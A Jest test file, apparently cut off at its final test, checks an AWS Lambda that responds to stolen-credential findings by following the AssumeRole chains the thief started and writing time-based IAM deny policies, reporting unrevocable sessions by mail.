import type { KeyActivity, StartedSession } from "../../../lambda/revoke-sessions/activity";
import type { FunctionConfiguration } from "../../../lambda/revoke-sessions/configuration";
import type { Followed } from "../../../lambda/revoke-sessions/followed";
import { logLine } from "../../../lambda/revoke-sessions/log";
import { digestOf } from "../../../lambda/revoke-sessions/memory";
import { readPolicy } from "../../../lambda/revoke-sessions/policy";
import { type Refusal, RefusalError } from "../../../lambda/revoke-sessions/refusal";
import { respond } from "../../../lambda/revoke-sessions/respond";
import type { Stolen } from "../../../lambda/revoke-sessions/stolen";
import { configuration } from "../../support/configuration";
import {
  ACCOUNT_ID,
  accessKeyId,
  EVENT_TIME,
  findingEvent,
  type FindingOptions,
  INSTANCE_ID,
  instanceId,
  ROLE_ID,
  ROLE_NAME,
} from "../../support/finding";
import { commandsIn, prose, section, stepsOf } from "../../support/incident";
import { dependenciesOf, MemoryAws, type MemoryRole, type PolicyWrite } from "../../support/memory-aws";
import { cutoffOf, denies } from "../../support/policy";
import { assuming, at, issuing, lookedUp, otherRoleId, OWNERS_ADDRESS } from "../../support/trail";

const USED_FOR = "WHAT THE KEYS WERE USED FOR";
const ON = { activity: true, followSessions: true };
const LATER = "2026-03-01T12:00:30Z";

let aws: MemoryAws;
let secondsLeft: number;
/** Which sessions each session started, by the caller's `aws:userid`. */
let startedBy: Map<string, StartedSession[]>;

beforeEach(() => {
  aws = new MemoryAws();
  aws.addRole();
  secondsLeft = 117;
  startedBy = new Map();
  aws.activityOf = ({ principalIds }) =>
    lookedUp([], { sessions: principalIds.flatMap((id) => startedBy.get(id) ?? []) });
});

const addRole = (name: string, changed: Parameters<MemoryAws["addRole"]>[0] = {}): MemoryRole =>
  aws.addRole({ name, path: "/team/", roleId: otherRoleId(name), ...changed });

const userIdOf = (roleName: string, session = "thief") => `${otherRoleId(roleName)}:${session}`;

/** A session that the thief started. */
const session = (roleName: string, changed: Partial<StartedSession> = {}): StartedSession => ({
  startedAt: at(-300),
  by: "AssumeRole",
  isThiefs: true,
  roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/team/${roleName}`,
  principalId: userIdOf(roleName),
  accessKeyId: `ASIA${roleName.toUpperCase()}`,
  ...changed,
});

const started = (...sessions: StartedSession[]) => {
  aws.activity = lookedUp([], { sessions });
};

/** Lets one session start others. */
const chain = (from: string, ...to: StartedSession[]) =>
  startedBy.set(
    userIdOf(from),
    to.map((each) => ({ ...each, caller: userIdOf(from), isThiefs: false })),
  );

async function handle(options: FindingOptions = {}, changed: Partial<FunctionConfiguration> = {}, now = EVENT_TIME) {
  return respond(
    findingEvent(options),
    dependenciesOf(aws, {
      configuration: configuration({ ...ON, verifyAfterSeconds: 0, ...changed }),
      secondsLeft: () => secondsLeft,
      now: () => now,
    }),
  );
}

const again = { set: { id: "another event" } };

/** A repeat of the finding, an hour later. */
const handleAnHourLater = () => handle({ ...again, time: at(3_600) }, {}, at(3_600));

const OTHER_ACCOUNT = "444455556666";

/** A session of another account, which the function cannot deny. */
const theirs = (name: string, changed: Partial<StartedSession> = {}) =>
  session(name, { roleArn: `arn:aws:iam::${OTHER_ACCOUNT}:role/${name}`, ...changed });

/** Records by which names and keys CloudTrail is asked for what sessions started in turn. */
function recordAsked(): Stolen[] {
  const asked: Stolen[] = [];
  const { activityOf } = aws;
  aws.activityOf = (stolen) => (asked.push(stolen), activityOf(stolen));
  return asked;
}

const followed = (): readonly Followed[] => aws.revoked.at(-1)?.following?.sessions ?? [];
const ends = () => followed().map(({ session: { principalId }, end }) => [principalId, end.kind]);
const isDenied = (role: MemoryRole, userId: string, issuedAt = at(-300)) =>
  denies(role.policies.values(), { userId, issuedAt });
const denyBefore = (time: string) => {
  const Condition = { DateLessThan: { "aws:TokenIssueTime": time } };
  const Statement = { Effect: "Deny", Action: "*", Resource: "*", Condition };
  return JSON.stringify({ Version: "2012-10-17", Statement });
};
const told = () => prose(section(aws.mails.at(-1)!, USED_FOR)).replace(/ +/g, " ");

describe("a session of another role that the stolen credentials started", () => {
  let admin: MemoryRole;
  beforeEach(() => {
    admin = addRole("admin");
    started(session("admin"));
  });

  test("is denied by itself, up to now", async () => {
    // WHEN
    await handle();

    // THEN
    expect(isDenied(admin, userIdOf("admin"))).toBe(true);
    expect(isDenied(admin, userIdOf("admin"), at(31))).toBe(false);
    expect(isDenied(admin, userIdOf("admin", "somebody else"))).toBe(false);
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin"]);
    expect(aws.writes[1]?.policyName).toMatch(/^RevokeOldSessions-[0-9a-z]{6}$/);
  });

  test("is denied after the write that denies the stolen ones, and told", async () => {
    // WHEN
    const { outcome } = await handle();

    // THEN
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: false });
    expect(told()).toContain(
      `Started denied if issued before ${LATER} (${aws.writes[1]!.policyName}): role admin, session thief, key ASIAADMIN`,
    );
    const mail = aws.mails[0]!;
    expect(mail.subject).toContain("Sessions revoked");
    expect(section(mail, "DO NOW").join()).not.toContain("NOT over");
    expect(commandsIn(mail, "HOW TO LET THE OLD SESSIONS BACK IN").join("\n")).toContain(
      `&& aws iam delete-role-policy --role-name admin --policy-name ${aws.writes[1]!.policyName}`,
    );
    expect(prose(section(mail, "WHAT THIS DOES NOT DO"))).toContain("that it may revoke");
  });

  test("is only reported unless the deployment follows", async () => {
    await handle({}, { followSessions: false });
    expect(aws.writes).toHaveLength(1);
    expect(told()).toContain("Started NOT denied: role admin");
    expect(aws.revoked[0]?.following).toBeUndefined();
  });

  test("is left alone if the stolen credentials may not be revoked themselves", async () => {
    await handle({}, { protectedRoles: [`arn:aws:iam::${ACCOUNT_ID}:role/${ROLE_NAME}`] });
    expect(aws.writes).toEqual([]);
    expect(aws.incidents).toMatchObject([{ kind: "refused" }]);
    expect(aws.calls.filter((call) => call === "lookUpActivity")).toHaveLength(1);
  });

  test("is over if it was started more than twelve hours ago", async () => {
    started(session("admin", { startedAt: at(-12 * 3_600 - 1) }));
    await handle();
    expect(ends()).toEqual([[userIdOf("admin"), "over"]]);
    expect(aws.writes).toHaveLength(1);
    expect(told()).toContain("Started over (it has expired): role admin");
  });

  test("is denied if it was started twelve hours ago: it can live so long", async () => {
    const startedAt = at(-12 * 3_600);
    started(session("admin", { startedAt }));
    await handle();
    expect(isDenied(admin, userIdOf("admin"), startedAt)).toBe(true);
  });

  test("is denied in the account of the finding, if that is a member", async () => {
    const members = { accounts: [OTHER_ACCOUNT], role: "/member" };
    started(theirs("admin"));
    await handle({ accountId: OTHER_ACCOUNT }, { members });
    expect(isDenied(admin, userIdOf("admin"))).toBe(true);
  });

  test("is all that is read: what people are told of is not asked for if everything is denied", async () => {
    await handle();
    const reads = aws.calls.filter((call) => call === "getRolePolicy");
    // The policy of the finding's role, and both that can deny the session.
    expect(reads).toHaveLength(3);
  });

  test("leaves nothing open, so that the mail does not say that there may be more", async () => {
    await handle();
    expect(aws.revoked[0]?.following?.shortfall).toBeUndefined();
  });

  test("is not cut anew if its role's old sessions are denied: what is written denies as much", async () => {
    // GIVEN somebody who denied all sessions of the role up to a minute ago
    admin.policies.set("RevokeOldSessions", denyBefore("2026-03-01T11:59:00Z"));

    // WHEN
    await handle();

    // THEN
    expect(followed().map(({ end }) => end)).toMatchObject([{ kind: "denied", cutoff: at(-60) }]);
    expect(cutoffOf(aws.writes[1]!.document)).toEqual(at(-60));
  });

  test("is denied with the others, by no policy of its own, if a finding about its own key was answered", async () => {
    // GIVEN
    await handle({ roleName: "admin", roleId: otherRoleId("admin"), session: "thief", accessKeyId: "ASIAADMIN" });

    // WHEN
    await handle();

    // THEN
    expect(followed().map(({ end }) => end)).toEqual([{ kind: "denied", cutoff: at(30) }]);
    expect([...admin.policies.keys()]).toEqual(["RevokeOldSessions"]);
    expect(told()).toContain("Started denied with the others: role admin");
  });

  test("counts in the log", async () => {
    started(session("admin"), theirs("theirs"));
    const { outcome, incident } = await handle();
    expect(JSON.parse(logLine(outcome, incident, EVENT_TIME))).toMatchObject({ followed: { denied: 1, notDenied: 1 } });
  });

  test("shares its policy with others of the same name, of which the latest counts", async () => {
    started(session("admin"), session("admin", { startedAt: at(-10), accessKeyId: "ASIASECOND" }));
    await handle();
    expect(ends()).toEqual([[userIdOf("admin"), "denied"]]);
    expect(aws.writes).toHaveLength(2);
  });

  test.each([
    ["first", [-10, -300]],
    ["last", [-300, -10]],
    ["in between", [-300, -10, -200]],
  ])("is told by the latest of the same name, which comes %s", async (_, seconds) => {
    started(...seconds.map((each) => session("admin", { startedAt: at(each) })));
    await handle();
    expect(followed().map(({ session: { startedAt } }) => startedAt)).toEqual([at(-10)]);
  });

  test.each([
    ["the first was", [true, false], true],
    ["the last was", [false, true], true],
    ["none was", [false, false], false],
  ])("is the thief's or not as one of the same name was: %s", async (_, areThiefs, expected) => {
    started(...areThiefs.map((isThiefs) => session("admin", { isThiefs })));
    await handle();
    expect(followed().map(({ session: { isThiefs } }) => isThiefs)).toEqual([expected]);
  });
});

describe("sessions of the finding's own role", () => {
  const ofRole = (principalId: string, startedAt = at(-300)) =>
    session(ROLE_NAME, { principalId, startedAt, roleArn: `arn:aws:iam::${ACCOUNT_ID}:role/${ROLE_NAME}` });

  test("are denied with the others if the whole role is, and what they started is followed", async () => {
    // GIVEN
    const admin = addRole("admin");
    started(ofRole(`${ROLE_ID}:again`));
    startedBy.set(`${ROLE_ID}:again`, [session("admin")]);

    // WHEN
    await handle();

    // THEN
    expect(isDenied(admin, userIdOf("admin"))).toBe(true);
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin"]);
    expect(told()).toContain("Started denied with the others: role web, session again");
  });

  test("are denied by themselves in scope session, but for the stolen one", async () => {
    started(ofRole(`${ROLE_ID}:again`), ofRole(`${ROLE_ID}:${INSTANCE_ID}`));
    await handle({}, { scope: "session" });
    expect(aws.writes.map(({ policyName }) => policyName)).toEqual([
      `RevokeOldSessions-${INSTANCE_ID}`,
      expect.stringMatching(/^RevokeOldSessions-[0-9a-z]{6}$/),
    ]);
    expect(followed().map(({ end }) => end)).toEqual([
      { kind: "denied", cutoff: at(30), policy: { roleName: ROLE_NAME, policyName: aws.writes[1]!.policyName } },
      { kind: "denied", cutoff: at(30) },
    ]);
    expect(isDenied(aws.roles.get(ROLE_NAME)!, `${ROLE_ID}:again`)).toBe(true);
  });

  test("are denied with the others in scope session if they are those of any stolen one", async () => {
    const stolen = [1, 2].map((number) => `${ROLE_ID}:${instanceId(number)}`);
    const recentCredentials = [{ accessKeyId: accessKeyId(2), principalId: stolen[1]! }];
    started(...stolen.map((principalId) => ofRole(principalId)));
    await handle({ session: instanceId(1), recentCredentials }, { scope: "session" });
    expect(followed().map(({ end }) => end)).toEqual([
      { kind: "denied", cutoff: at(30) },
      { kind: "denied", cutoff: at(30) },
    ]);
  });

  test("are denied by themselves if the policy of the instance that they are of denies only older ones", async () => {
    // GIVEN an instance that was robbed an hour ago, and a session of its name that was started since
    const [first, second] = [1, 2].map((number) => `${ROLE_ID}:${instanceId(number)}`);
    await handle({ session: instanceId(1) }, { scope: "session" });
    started(ofRole(first!, at(3_000)));

    // WHEN a finding names it, and another instance whose cut-off is of today
    const recentCredentials = [{ accessKeyId: accessKeyId(2), principalId: second! }];
    const finding = { ...again, session: instanceId(1), recentCredentials, time: at(3_600) };
    await handle(finding, { scope: "session" }, at(3_600));

    // THEN
    expect(isDenied(aws.roles.get(ROLE_NAME)!, first!, at(3_000))).toBe(true);
  });

  test.each([
    ["before the cut-off, with the others", 29, [ROLE_NAME]],
    ["at the cut-off, by themselves", 30, [ROLE_NAME, ROLE_NAME]],
    ["after the cut-off, by themselves", 3_000, [ROLE_NAME, ROLE_NAME]],
  ])("are denied if they were started %s", async (_, seconds, written) => {
    // GIVEN
    await handle();

    // WHEN
    started(ofRole(`${ROLE_ID}:again`, at(seconds)));
    await handleAnHourLater();

    // THEN
    expect(isDenied(aws.roles.get(ROLE_NAME)!, `${ROLE_ID}:again`, at(seconds))).toBe(true);
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual(written);
  });
});

describe("a chain of sessions", () => {
  beforeEach(() => {
    for (const name of ["one", "two", "three", "four"]) addRole(name);
    started(session("one"));
    chain("one", session("two"));
    chain("two", session("three"));
    chain("three", session("four"));
  });

  test("is followed three deep, and it is said that it may go on", async () => {
    await handle();
    expect(ends()).toEqual(["one", "two", "three"].map((name) => [userIdOf(name), "denied"]));
    expect(followed().map(({ depth }) => depth)).toEqual([1, 2, 3]);
    expect(told()).toContain("There may be more sessions: what was started 4 deep was not looked for.");
    expect(told()).toContain(`by session ${userIdOf("one")}`);
  });

  test("is looked up by the keys and the names of its sessions", async () => {
    // GIVEN
    const asked = recordAsked();

    // WHEN
    await handle();

    // THEN
    const address = "198.51.100.77";
    expect(asked).toEqual([
      { accessKeyIds: ["ASIAONE"], principalIds: [userIdOf("one")], addresses: [address] },
      { accessKeyIds: ["ASIATWO"], principalIds: [userIdOf("two")], addresses: [address] },
    ]);
  });

  test("is looked up by the names alone if CloudTrail does not name the keys", async () => {
    const asked = recordAsked();
    started(session("one", { accessKeyId: undefined }));
    await handle();
    expect(asked[0]).toEqual({
      accessKeyIds: [],
      principalIds: [userIdOf("one")],
      addresses: ["198.51.100.77"],
    });
  });

  test("ends if it comes back to a session that it had, which stays where it was found first", async () => {
    chain("two", session("one"));
    await handle();
    expect(ends()).toEqual(["one", "two"].map((name) => [userIdOf(name), "denied"]));
    expect(followed().map(({ depth }) => depth)).toEqual([1, 2]);
    expect(aws.writes).toHaveLength(3);
    expect(aws.revoked[0]?.following?.shortfall).toBeUndefined();
  });

  test.each([
    ["after the cut-off of its name", 3_000, "ASIAONE", "ASIAAGAIN"],
    ["at the cut-off of its name, of which CloudTrail does not name the key", 30, undefined, undefined],
  ])("denies a session that was started once more %s", async (_, seconds, first, again) => {
    // GIVEN a session that was denied an hour ago, and is started again by one of which CloudTrail tells only now
    addRole("late");
    startedBy.clear();
    started(session("one", { accessKeyId: first }));
    await handle();
    started(session("one", { accessKeyId: first }), session("late"));
    chain("late", session("one", { startedAt: at(seconds), accessKeyId: again }));

    // WHEN
    await handleAnHourLater();

    // THEN
    expect(isDenied(aws.roles.get("one")!, userIdOf("one"), at(seconds))).toBe(true);
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("late"), "denied"],
    ]);
  });

  test("goes on from a session of a name that is denied, if another key of it comes up", async () => {
    startedBy.clear();
    started(session("one"), session("two"));
    chain("two", session("one"), session("one", { accessKeyId: "ASIASECOND" }));
    const asked = recordAsked();
    await handle();
    expect(asked.map(({ accessKeyIds }) => accessKeyIds)).toEqual([
      ["ASIAONE", "ASIATWO"],
      ["ASIAONE", "ASIASECOND"],
    ]);
  });

  test.each([
    ["", "ASIAONE", "ASIAAGAIN"],
    [", if CloudTrail does not name the keys", undefined, undefined],
  ])("denies a session whose namesake has expired%s", async (_, first, again) => {
    started(session("one", { startedAt: at(-13 * 3_600), accessKeyId: first }), session("two"));
    startedBy.clear();
    chain("two", session("one", { startedAt: at(-60), accessKeyId: again }));
    await handle();
    expect(isDenied(aws.roles.get("one")!, userIdOf("one"), at(-60))).toBe(true);
  });

  test("is the thief's if it comes back to a session that the owner began", async () => {
    // GIVEN a session of the owner's that the function cannot deny
    const owners = theirs("their", { isThiefs: false });
    started(session("one"), owners);
    startedBy.clear();
    chain("one", owners);

    // WHEN
    const result = await handle();

    // THEN
    expect(followed().map(({ session: { isThiefs }, end }) => [isThiefs, end.kind])).toEqual([
      [true, "denied"],
      [true, "open"],
    ]);
    expect(result.outcome.needsPerson).toBe(true);
  });

  test("is looked up by the names alone if CloudTrail does not name one of the keys", async () => {
    const asked = recordAsked();
    started(session("one"), session("two", { accessKeyId: undefined }));
    await handle();
    expect(asked[0]).toMatchObject({ accessKeyIds: [], principalIds: [userIdOf("one"), userIdOf("two")] });
  });

  test("may not go on if nothing of the third level leads further", async () => {
    await handle({}, { protectedRoles: [`arn:aws:iam::${ACCOUNT_ID}:role/three`] });
    expect(followed().map(({ depth }) => depth)).toEqual([1, 2, 3]);
    expect(aws.revoked[0]?.following?.shortfall).toBeUndefined();
  });

  test.each([
    ["another account's", theirs("one")],
    ["of a role that CloudTrail does not name", session("one", { roleArn: undefined })],
    ["over", session("one", { startedAt: at(-13 * 3_600) })],
  ])("ends at a session that is %s: nobody asks for what it started", async (_, end) => {
    const asked = recordAsked();
    started(end);
    await handle();
    expect(asked).toEqual([]);
    expect(followed()).toHaveLength(1);
  });

  test.each([
    ["IAM fails for", new Error("Throttling")],
    ["IAM does not permit", new RefusalError({ reason: "not-permitted", explanation: "no" })],
  ])("goes on behind a role that %s: its session is not denied, and can have started others", async (_, error) => {
    // GIVEN
    aws.refuse = ({ roleName }) => {
      if (roleName === "two") throw error;
      return undefined;
    };

    // WHEN
    await handle();

    // THEN
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("two"), "open"],
      [userIdOf("three"), "denied"],
    ]);
  });

  test.each<[string, KeyActivity, string]>([
    ["CloudTrail cannot be asked", { kind: "unknown", why: "it is broken" }, "it is broken"],
    [
      "regions do not tell everything",
      lookedUp([], {
        regions: [
          { region: "us-west-2", shortfall: { kind: "throttled" } },
          { region: "us-east-1" },
          { region: "us-east-2", shortfall: { kind: "too-many" } },
        ],
      }),
      "us-west-2: throttled, us-east-2: too-many",
    ],
  ])("may go on if %s, and it is said why nobody knows", async (_, activity, why) => {
    aws.activityOf = () => activity;
    expect((await handle()).outcome).toMatchObject({ outcome: "revoked" });
    expect(ends()).toEqual([[userIdOf("one"), "denied"]]);
    expect(aws.revoked[0]?.following?.shortfall).toBe(`CloudTrail did not tell all that they started in turn (${why})`);
  });

  test("may go on for several reasons, of which each is said once", async () => {
    // GIVEN every look-up falls short
    const { activityOf } = aws;
    const regions = [{ region: "us-west-2", shortfall: { kind: "no-time" } as const }];
    aws.activityOf = (stolen) => ({ ...activityOf(stolen), regions });

    // WHEN
    await handle();

    // THEN
    expect(aws.revoked[0]?.following?.shortfall).toBe(
      "CloudTrail did not tell all that they started in turn (us-west-2: no-time); " +
        "what was started 4 deep was not looked for",
    );
  });

  test.each([
    ["the thief's if the thief began it", true],
    ["the owner's if the owner began it", false],
  ])("is %s, from wherever it goes on", async (_, isThiefs) => {
    // GIVEN a session at its end that nothing denies
    started(session("one", { isThiefs }));
    aws.refuse = ({ roleName }) => (roleName === "three" ? { reason: "not-permitted", explanation: "no" } : undefined);

    // WHEN
    const { outcome } = await handle();

    // THEN
    expect(followed().map(({ session }) => session.isThiefs)).toEqual([isThiefs, isThiefs, isThiefs]);
    expect(outcome).toMatchObject({ needsPerson: isThiefs });
  });

  test("is the thief's from where the thief took part, although the owner began it", async () => {
    started(session("one", { isThiefs: false }));
    startedBy.set(userIdOf("one"), [session("two", { caller: userIdOf("one"), isThiefs: true })]);
    await handle();
    expect(followed().map(({ session }) => session.isThiefs)).toEqual([false, true, true]);
  });

  test("is whose the very session is that it goes on from", async () => {
    // GIVEN
    started(session("one"), session("four", { isThiefs: false }));
    chain("two");
    chain("four", session("three"));

    // WHEN
    await handle();

    // THEN
    expect(followed().map(({ session: { caller, principalId, isThiefs } }) => [caller, principalId, isThiefs])).toEqual(
      [
        [undefined, userIdOf("one"), true],
        [undefined, userIdOf("four"), false],
        [userIdOf("one"), userIdOf("two"), true],
        [userIdOf("four"), userIdOf("three"), false],
      ],
    );
  });

  test.each<[string, Partial<FunctionConfiguration>, Parameters<typeof addRole>[1]]>([
    ["this deployment protects", { protectedRoles: [`arn:aws:iam::${ACCOUNT_ID}:role/two`] }, {}],
    ["is exempt", {}, { tags: [{ key: "guardduty-response", value: "exempt" }] }],
    ["is not revocable", { revocableRoles: { tag: { key: "revocable", value: "yes" } } }, {}],
    ["IAM lets nobody edit", {}, { path: "/aws-reserved/sso.amazonaws.com/" }],
  ])("ends at a role that %s", async (_, changed, role) => {
    // GIVEN
    const revocable = [{ key: "revocable", value: "yes" }];
    aws.addRole({ tags: revocable });
    addRole("one", { tags: revocable });
    addRole("two", role);

    // WHEN
    const { outcome } = await handle({}, changed);

    // THEN
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("two"), "open"],
    ]);
    expect(aws.writes.map(({ roleName }) => roleName)).not.toContain("two");
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: true });
    expect(aws.mails[0]?.subject).toContain("NOT ALL");
    const commands = stepsOf(aws.mails[0]!).flatMap((step) => step.commands);
    expect(commands.some((command) => command.includes("put-role-policy --role-name two"))).toBe(true);
  });

  test.each<[string, () => void, RegExp]>([
    ["was deleted", () => aws.roles.delete("two"), /over \(the role does not exist/],
    ["was made anew", () => addRole("two", { roleId: "AROAANOTHER" }), /over \(the role has been re-created since/],
  ])("goes on behind a role that %s", async (_, change, expected) => {
    change();
    const { outcome } = await handle();
    expect(ends()).toEqual([
      [userIdOf("one"), "denied"],
      [userIdOf("two"), "over"],
      [userIdOf("three"), "denied"],
    ]);
    expect(told()).toMatch(expected);
    expect(outcome).toMatchObject({ needsPerson: false });
  });
});

describe("what cannot be revoked", () => {
  test("is a session of another account, which is named with advice", async () => {
    started(theirs("theirs"));
    const { outcome } = await handle();
    expect(outcome).toMatchObject({ needsPerson: true });
    expect(aws.calls.filter((call) => call === "getRole")).toHaveLength(1);
    expect(told()).toContain(
      "NOT denied (it is another account's: whoever runs that must revoke it there): role theirs, of account 444455556666",
    );
  });

  test("is a session of which CloudTrail does not name the role", async () => {
    started(session("nobody", { roleArn: undefined, by: "GetFederationToken", principalId: undefined }));
    await handle();
    expect(told()).toContain("NOT denied (CloudTrail does not name its role): whoever GetFederationToken is about");
  });

  test("is a session of which CloudTrail names the role, but neither its id nor the session", async () => {
    addRole("admin");
    started(session("admin", { principalId: undefined }));
    await handle();
    expect(aws.writes.map(({ roleName }) => roleName)).not.toContain("admin");
    expect(told()).toContain("NOT denied (CloudTrail does not name its role): role admin, key ASIAADMIN");
  });

  test("is more than twenty sessions: they are counted, and asked for nowhere", async () => {
    // GIVEN
    const names = Array.from({ length: 100 }, (_, index) => `app-${index}`);
    for (const name of names) addRole(name);
    started(...names.map((name) => session(name)));
    const asked = recordAsked();

    // WHEN
    await handle();

    // THEN
    expect(asked.map(({ principalIds }) => principalIds)).toEqual([names.slice(0, 20).map((name) => userIdOf(name))]);
    expect(new Set(aws.writes.map(({ roleName }) => roleName)).size).toBe(21);
    expect(followed().filter(({ end }) => end.kind === "denied")).toHaveLength(20);
    expect(told()).toContain("NOT denied (more than 20 sessions are left to you): role app-20");
    expect(told()).toContain("and 75 more");
  });

  test("are the owner's before the thief's, if there are too many", async () => {
    const names = Array.from({ length: 30 }, (_, index) => `app-${index}`);
    for (const name of names) addRole(name);
    started(...names.map((name, index) => session(name, { isThiefs: index >= 10 })));
    await handle();
    expect(followed().filter(({ session: { isThiefs }, end }) => isThiefs && end.kind === "denied")).toHaveLength(20);
  });

  test.each<[string, Error | Refusal, string]>([
    [
      "IAM does not permit",
      { reason: "not-permitted", explanation: "AWS does not permit it" },
      "AWS does not permit it",
    ],
    ["has no room", { reason: "policy-quota-exceeded", explanation: "no room" }, "no room"],
    ["IAM fails for", new Error("Throttling"), "Error: Throttling"],
  ])("is a session of a role that %s, and the mail says so", async (_, error, expected) => {
    // GIVEN
    addRole("admin");
    started(session("admin"));
    aws.refuse = ({ roleName }) => {
      if (roleName !== "admin") return undefined;
      if (error instanceof Error) throw error;
      throw new RefusalError(error);
    };

    // WHEN
    const { outcome } = await handle();

    // THEN
    expect(outcome).toMatchObject({ outcome: "revoked", needsPerson: true });
    expect(told()).toContain(`NOT denied (${expected}): role admin`);
  });

  test("is a session for which there is no time: the mail goes out", async () => {
    addRole("admin");
    started(session("admin"));
    secondsLeft = 45.9;
    const { outcome } = await handle();
    expect(outcome).toMatchObject({ outcome: "revoked" });
    expect(told()).toContain("NOT denied (Error: no time was left): role admin");
  });

  test("is no session for which there is time for the longest call, and for the mail", async () => {
    addRole("admin");
    started(session("admin"));
    secondsLeft = 46;
    await handle();
    expect(ends()).toEqual([[userIdOf("admin"), "denied"]]);
  });

  test("is unknown if CloudTrail does not tell it, and the mail says so", async () => {
    addRole("admin");
    started(session("admin"));
    aws.activityOf = () => lookedUp([], { regions: [{ region: "us-west-2", shortfall: { kind: "throttled" } }] });
    await handle();
    expect(told()).toContain("CloudTrail did not tell all that they started in turn (us-west-2: throttled).");
  });

  test("is nothing if CloudTrail cannot be asked at all", async () => {
    aws.activity = { kind: "unknown", why: "it is broken" };
    expect((await handle()).outcome).toMatchObject({ outcome: "revoked" });
    expect(aws.revoked[0]?.following).toBeUndefined();
  });
});

describe("what somebody made stricter stays stricter", () => {
  test("a deny of the session for good", async () => {
    // GIVEN
    const admin = addRole("admin");
    started(session("admin"));
    await handle();
    const { policyName } = aws.writes[1]!;
    const Condition = { StringEquals: { "aws:userid": userIdOf("admin") } };
    const statement = { Effect: "Deny", Action: "*", Resource: "*", Condition };
    admin.policies.set(policyName, JSON.stringify({ Version: "2012-10-17", Statement: statement }));

    // WHEN
    started(session("admin", { accessKeyId: accessKeyId(77) }));
    await handle(again);

    // THEN
    expect(isDenied(admin, userIdOf("admin"), at(86_400))).toBe(true);
  });
});

describe("a repeat of the finding", () => {
  beforeEach(() => {
    addRole("admin");
    addRole("late");
    started(session("admin"));
  });

  test("is silent, and writes nothing, if nothing is new", async () => {
    await handle();
    const { outcome } = await handle(again);
    expect(outcome).toMatchObject({ outcome: "already-revoked", needsPerson: false });
    expect(aws.mails).toHaveLength(1);
    expect(aws.writes).toHaveLength(2);
  });

  test("looks again, and tells of a session that CloudTrail had not delivered before", async () => {
    // GIVEN
    await handle();
    started(session("admin"), session("late"));

    // WHEN
    const { outcome } = await handle(again);

    // THEN
    expect(outcome).toMatchObject({ outcome: "already-revoked" });
    expect(aws.writes.map(({ roleName }) => roleName)).toEqual([ROLE_NAME, "admin", "late"]);
    expect(aws.mails).toHaveLength(2);
    expect(aws.mails[1]?.subject).toContain("Already denied, new sessions");
    expect(prose(section(aws.mails[1]!, "WHAT WAS DONE"))).toContain("This mail is about sessions that they started");
  });

  test("names the policy that denied a session before", async () => {
    await handle();
    started(session("admin"), session("late"));
    await handle(again);
    const [, { policyName }] = aws.writes as [PolicyWrite, PolicyWrite];
    expect(followed()[0]?.end).toEqual({ kind: "denied", cutoff: at(30), policy: { roleName: "admin", policyName } });
  });

  test("tells once of a session that another policy denies, even if CloudTrail does not name its key", async () => {
    // GIVEN
    await handle();
    aws.roles.get("late")!.policies.set("RevokeOldSessions", denyBefore("2026-03-01T11:59:00Z"));

    // WHEN
    started(session("late", { accessKeyId: undefined }));
    await handle(again);
    await handle({ set: { id: "a third event" } });

    // THEN
    expect(aws.mails).toHaveLength(2);
    expect(told()).toContain("Started denied if issued before 2026-03-01T11:59:00Z");
  });

  test.each([
    ["", "ASIAADMIN", "ASIALATER"],
    [", of which CloudTrail does not name the key", undefined, undefined],
  ])("denies a session of the same name that was started after the cut-off%s", async (_, first, later) => {
    // GIVEN
    started(session("admin", { accessKeyId: first }));
    await handle();

    // WHEN
    started(session("admin", { startedAt: at(3_000), accessKeyId: later }));
    await handleAnHourLater();

    // THEN
    expect(isDenied(aws.roles.get("admin")!, userIdOf("admin"), at(3_000))).toBe(true);
  });

  test("tells once of what nothing denies, and again of what is new", async () => {
    // GIVEN
    started(theirs("a"));
    await handle();
    await handle(again);
    expect(aws.mails).toHaveLength(1);

    // WHEN
    started(theirs("a"), theirs("b"));
    await handle({ set: { id: "a third event" } });
    await handle({ set: { id: "a fourth event" } });

    // THEN
    expect(aws.mails).toHaveLength(2);
    expect(told()).toContain("role b");
  });

  test("tells once of what nothing denies, even if the finding comes out of the queue half a day late", async () => {
    // GIVEN
    await handle();
    const late = at(14 * 3_600);

    // WHEN the finding is about what was seen before the cut-off, and its role remembers nothing of so long ago
    started(theirs("a", { startedAt: at(13 * 3_600) }));
    await handle(again, {}, late);
    await handle({ set: { id: "a third event" } }, {}, late);

    // THEN
    expect(aws.mails).toHaveLength(2);
  });

  test("remembers ten of those that it told: they cannot push out what the policy remembers of the theft", async () => {
    // GIVEN
    const names = Array.from({ length: 12 }, (_, index) => `app-${index}`);
    started(...names.map((name) => theirs(name)));

    // WHEN
    await handle();

    // THEN
    const memory = readPolicy(aws.writes.at(-1)!.document, undefined, EVENT_TIME).own!.memory;
    expect(names.filter((name) => memory.has(digestOf(userIdOf(name))))).toEqual(names.slice(0, 10));
    expect(memory.has(digestOf(accessKeyId(1)))).toBe(true);
  });

  test("leaves a policy that somebody removed meanwhile to the look-back, rather than to restore it silently", async () => {
    // GIVEN
    started(theirs("a"));
    const role = aws.roles.get(ROLE_NAME)!;
    aws.before = (call) => call === "lookUpActivity" && role.policies.clear();

    // WHEN
    await handle();

    // THEN
    expect(aws.writes).toHaveLength(1);
    expect(aws.mails).toHaveLength(1);
  });

  test("does not move the cut-off of the finding's own role to remember what was told", async () => {
    started(theirs("theirs"));
    await handle();
    const cutoffs = aws.writes.map(({ document }) => /"(2026-[^"]*)"/.exec(document)?.[1]);
    expect(cutoffs).toEqual([LATER, LATER]);
  });

  test.each([
    ["revoked", () => session("late")],
    ["only told of", () => theirs("theirs")],
  ])("tells again of a session that was %s if its mail did not leave", async (_, find) => {
    // GIVEN a repeat that finds a session, and whose mail is not taken
    await handle();
    started(session("admin"), find());
    aws.before = (call) => {
      if (call === "report") throw new Error("SNS is down");
    };
    await expect(handle(again)).rejects.toThrow("SNS is down");

    // WHEN Lambda tries again
    aws.before = () => {};
    await handle(again);

    // THEN
    expect(aws.mails).toHaveLength(2);
  });
});

test("sessions of hostile names are told as text, and handed to nobody", async () => {
